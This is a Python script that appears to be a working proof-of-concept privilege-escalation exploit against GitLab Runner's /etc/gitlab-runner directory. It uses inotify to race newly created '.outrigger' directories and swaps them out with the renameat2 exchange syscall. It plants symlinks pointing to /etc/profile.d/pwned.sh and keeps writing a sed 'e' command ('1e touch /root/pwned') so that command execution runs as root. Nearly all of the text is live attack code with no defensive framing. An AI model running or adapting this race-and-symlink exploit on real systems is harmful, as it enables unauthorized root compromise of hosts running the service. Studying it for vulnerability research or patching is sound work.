# Run as the service's user beside the launch script or its way back: swaps whatever the script makes in the
# directory of that user, as soon as it appears, for what leads elsewhere.
import ctypes
import os
import struct

ETC = "/etc/gitlab-runner"
EVIL = ETC + "/evil"
PREY = "/etc/profile.d/pwned.sh"
libc = ctypes.CDLL(None, use_errno=True)


def prepare():
    os.makedirs(EVIL, exist_ok=True)
    for name in ("new", "ca", "gitlab-ca", "unit", "token", "text", "entry", "said", "key", "keys", "header"):
        if not os.path.lexists(EVIL + "/" + name):
            os.symlink(PREY, EVIL + "/" + name)


def commands():
    # For sed -f, which runs them.
    while True:
        for folder in os.listdir(ETC):
            path = ETC + "/" + folder
            if not (folder == "evil" or folder.startswith(".outrigger")) or not os.path.isdir(path):
                continue
            try:
                with open(path + "/lines", "w") as lines:
                    lines.write("1e touch /root/pwned\n")
            except OSError:
                pass


def exchange(one, other):
    at, flag = -100, 2
    return libc.syscall(316, at, one.encode(), at, other.encode(), flag)


prepare()
# A process of its own: a thread would hold up the other.
if os.fork() == 0:
    commands()
watch = libc.inotify_init()
libc.inotify_add_watch(watch, ETC.encode(), 0x100 | 0x80)  # made, moved here
seen = open(ETC + "/seen", "a", buffering=1)
seen.write("ready\n")
done = set()
while True:
    data = os.read(watch, 65536)
    while data:
        _, _, _, length = struct.unpack("iIII", data[:16])
        name = data[16:16 + length].rstrip(b"\0").decode()
        data = data[16 + length:]
        # Once each: an exchange moves something to the same name again.
        if not name.startswith(".outrigger") or name in done and os.path.isdir(ETC + "/" + name):
            continue
        done.add(name)
        path = ETC + "/" + name
        if os.path.isdir(path):
            result = exchange(EVIL, path)
        else:
            try:
                os.symlink(PREY, ETC + "/link")
                os.rename(ETC + "/link", path)
                result = 0
            except OSError:
                result = 1
        seen.write("%s %d\n" % (name, result))
